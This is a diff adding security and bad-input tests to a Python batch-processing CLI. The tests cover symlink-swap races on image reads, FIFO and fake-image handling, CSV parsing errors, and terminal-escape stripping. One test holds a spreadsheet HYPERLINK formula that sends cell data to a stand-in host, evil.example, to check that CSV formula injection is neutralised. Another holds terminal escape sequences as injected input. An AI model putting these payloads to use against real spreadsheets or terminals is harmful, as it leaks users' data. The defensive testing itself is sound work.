@@ -13,10 +13,12 @@ import shutil
 import signal
 import subprocess
 import sys
+import threading
 import time
 from pathlib import Path
 from typing import Any
 
+import polars as pl
 import pytest
 from cli_helpers import (
     awkward_table,
@@ -29,6 +31,7 @@ from cli_helpers import (
 )
 
 from batchops import runlock
+from batchops.emulator.testing import data_url
 
 FAST_RETRY = ["--retry-delay", "0.01", "--retry-max-delay", "0.05"]
 ENGINE = pytest.mark.xfail(strict=True, reason="lead: engine fix pending")
@@ -470,3 +473,182 @@ def test_item12_killed_merge_temp_files_are_cleaned_on_next_start(emulator, tmp_
     finally:
         alive.kill()
         alive.wait()
+
+
+# --------------------------------------------------------------------------- items 9–11, 13: bad input and security
+
+
+def test_item9_directory_swapped_during_reads_never_yields_an_outside_file(tmp_path):
+    from batchops.emulator.testing import png_bytes
+    from batchops.render import ImageProblem, image_data_url
+
+    images, outside = tmp_path / "images", tmp_path / "outside"
+    (images / "sub").mkdir(parents=True)
+    (outside / "sub").mkdir(parents=True)
+    inside_png, secret_png = png_bytes(2, 2), png_bytes(3, 3) + b"SECRET"
+    (images / "sub" / "a.png").write_bytes(inside_png)
+    (outside / "sub" / "a.png").write_bytes(secret_png)
+    secret_url = data_url(secret_png)
+    stop = threading.Event()
+    cycles = [0]
+
+    def swap() -> None:  # sub/ flips between the real folder and a link to outside/sub
+        real, parked = images / "sub", images / "sub.real"
+        while not stop.is_set():
+            real.rename(parked)
+            real.symlink_to(outside / "sub", target_is_directory=True)
+            real.unlink()
+            parked.rename(real)
+            cycles[0] += 1
+
+    reads = 0
+    swapper = threading.Thread(target=swap)
+    swapper.start()
+    try:
+        # Enough reads and enough swaps under them (the old check leaked within a few hundred).
+        while reads < 20_000 and (reads < 3000 or cycles[0] < 300):
+            reads += 1
+            try:
+                url = image_data_url(images, "sub/a.png")
+            except ImageProblem:
+                continue
+            assert url != secret_url, "a file from outside --image-dir was read"
+    finally:
+        stop.set()
+        swapper.join()
+    assert image_data_url(images, "sub/a.png") == data_url(inside_png)
+
+
+def _image_table(tmp_path: Path) -> tuple[Path, Path]:
+    from batchops.emulator.testing import png_bytes
+
+    images = tmp_path / "images"
+    images.mkdir()
+    (images / "good.png").write_bytes(png_bytes(2, 2))
+    (images / "fake.png").write_text("just some text, not an image\n", encoding="utf-8")
+    os.mkfifo(images / "pipe.png")
+    rows = [["a", "good.png"], ["b", "fake.png"], ["c", "pipe.png"], ["d", ""]]
+    src = tmp_path / "img.csv"
+    src.write_text("sku,image\n" + "".join(f"{s},{i}\n" for s, i in rows), encoding="utf-8")
+    return src, images
+
+
+def test_item11_fifo_and_text_named_png_are_skipped_with_reasons(emulator, tmp_path):
+    src, images = _image_table(tmp_path)
+    run_dir = tmp_path / "run"
+    common = ["--csv", src, "--id-column", "sku", "--prompt", "Describe {sku}"]
+    common += ["--image-column", "image", "--image-dir", images, "--model", "gpt-4o-mini"]
+    common += ["--run-dir", run_dir, "--log-dir", tmp_path / "logs", "--poll-interval", "0.05"]
+    # A FIFO must never block: each run is its own process, killed if it hangs.
+    rc, out, err = run_sub(["run", *common, "--dry-run"])
+    assert rc == 0, err
+    assert "skipped: 2 row(s)" in out, out
+    rc, out, err = run_sub(["run", *common, "--base-url", emulator.base_url])
+    assert rc == 3, (out, err)  # skipped rows: the run ends with rows missing
+    by_sku = {r["sku"]: r for r in read_csv(run_dir / "final_output.csv")}
+    assert by_sku["a"]["status"] == by_sku["d"]["status"] == "succeeded"
+    assert by_sku["b"]["status"] == by_sku["c"]["status"] == "skipped"
+    assert "not a PNG, JPEG, GIF or WEBP image" in by_sku["b"]["error"]
+    assert "not a regular file" in by_sku["c"]["error"]
+    assert set(executions(emulator)) == {"a", "d"}  # the skipped rows were never sent
+
+
+def test_item11_unterminated_quote_is_exit_2_naming_the_line(emulator, tmp_path):
+    src = tmp_path / "q.csv"
+    src.write_bytes(b'id,text\n1,"abc\n2,d\n3,e\n')
+    res = invoke(
+        "run", "--csv", src, "--prompt", "{text}", "--model", "gpt-4o-mini",
+        "--run-dir", tmp_path / "run", "--base-url", emulator.base_url,
+        "--log-dir", tmp_path / "logs",
+    )  # fmt: skip
+    assert res.exit_code == 2, res.output
+    one_line_error(res, str(src), "line 2", "never closed")
+    assert not executions(emulator) and calls(emulator, "POST /v1/files") == 0
+
+
+@pytest.mark.parametrize("value", ["inf", "nan", "-1", "0", "-inf"])
+def test_item11_poll_interval_must_be_finite_and_positive(emulator, tmp_path, value):
+    src = awkward_table(tmp_path, n_plain=3, images=False)
+    run_dir = tmp_path / "run"
+    args = run_args(emulator, src, run_dir)
+    i = args.index("--poll-interval")
+    res = invoke(*args[:i], "--poll-interval", value, *args[i + 2 :])
+    assert res.exit_code == 2, res.output
+    assert "--poll-interval" in res.output and "Traceback" not in res.output
+    assert calls(emulator, "POST /v1/files") == 0  # refused before anything was sent
+    assert invoke(*args, "--no-wait").exit_code == 0
+    for cmd in ("watch", "retry-missing"):
+        res = invoke(cmd, "--run-dir", run_dir, "--poll-interval", value)
+        assert res.exit_code == 2 and "--poll-interval" in res.output, (cmd, res.output)
+
+
+EVIL_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_item10_formula_cells_are_neutralised_in_csv_only(emulator, tmp_path):
+    src = tmp_path / "f.csv"
+    src.write_text('sku,note\na,"=1+1"\nb,-5\nc,@SUM(A1)\n', encoding="utf-8")
+    run_dir = tmp_path / "run"
+    res = invoke(
+        "run", "--csv", src, "--id-column", "sku", "--prompt", "{note}", "--model", EVIL_MODEL,
+        "--run-dir", run_dir, "--base-url", emulator.base_url, "--poll-interval", "0.05",
+        "--log-dir", tmp_path / "logs",
+    )  # fmt: skip
+    assert res.exit_code == 0, res.output
+    rows = read_csv(run_dir / "final_output.csv")
+    # Source cells are the user's own data: unchanged.
+    assert [r["note"] for r in rows] == ["=1+1", "-5", "@SUM(A1)"]
+    for r in rows:  # added cells that would run as formulas start with '
+        assert r["model"] == "'" + EVIL_MODEL
+        assert r["response"].startswith("'" + EVIL_MODEL + " says: ")
+    # Parquet and JSONL keep the values as they are.
+    assert invoke("merge", "--run-dir", run_dir, "-o", tmp_path / "m.parquet").exit_code == 0
+    table = pl.read_parquet(tmp_path / "m.parquet")
+    assert set(table["model"]) == {EVIL_MODEL}
+    assert invoke("merge", "--run-dir", run_dir, "-o", tmp_path / "m.jsonl").exit_code == 0
+    lines = (tmp_path / "m.jsonl").read_text(encoding="utf-8").splitlines()
+    assert {json.loads(x)["model"] for x in lines} == {EVIL_MODEL}
+    # The opt-out writes them verbatim.
+    res = invoke("merge", "--run-dir", run_dir, "-o", tmp_path / "raw.csv", "--no-csv-escape")
+    assert res.exit_code == 0, res.output
+    assert {r["model"] for r in read_csv(tmp_path / "raw.csv")} == {EVIL_MODEL}
+
+
+def test_item10_cost_usd_is_never_in_scientific_notation(emulator, tmp_path):
+    src = awkward_table(tmp_path, n_plain=3, images=False)
+    run_dir = tmp_path / "run"
+    assert invoke(*run_args(emulator, src, run_dir)).exit_code == 0
+    costs = [r["cost_usd"] for r in read_csv(run_dir / "final_output.csv")]
+    assert costs and all(c and "e" not in c.lower() for c in costs), costs
+    assert all(0 < float(c) < 1e-3 for c in costs)  # tiny figures, written in full
+
+
+def test_item13_status_strips_terminal_escapes_from_remote_text(emulator, tmp_path):
+    src = awkward_table(tmp_path, n_plain=3, images=False)
+    run_dir = tmp_path / "run"
+    model = "gpt-\x1b[2J\x1b]0;pwned\x07evil\x1b[31m"
+    assert invoke(*run_args(emulator, src, run_dir, model=model), "--no-wait").exit_code == 0
+    rc, out, err = run_sub(["status", "--run-dir", run_dir])
+    assert rc == 0, err
+    assert "\x1b" not in out and "\x07" not in out
+    assert "gpt-evil" in out
+
+
+def test_item9_links_that_stay_inside_the_image_dir_still_work(tmp_path):
+    from batchops.emulator.testing import png_bytes
+    from batchops.render import ImageProblem, image_data_url
+
+    images = tmp_path / "images"
+    (images / "real").mkdir(parents=True)
+    png = png_bytes(2, 2)
+    (images / "real" / "a.png").write_bytes(png)
+    (images / "rel.png").symlink_to("real/a.png")
+    (images / "abs.png").symlink_to(images / "real" / "a.png")
+    (images / "alias").symlink_to("real", target_is_directory=True)
+    (images / "loop.png").symlink_to("loop.png")
+    for cell in ("real/a.png", "rel.png", "abs.png", "alias/a.png", str(images / "rel.png")):
+        assert image_data_url(images, cell) == data_url(png), cell
+    with pytest.raises(ImageProblem, match="cannot read image"):
+        image_data_url(images, "loop.png")
+    with pytest.raises(ImageProblem, match="escapes the image dir"):
+        image_data_url(images, "real/../../images/real/a.png")
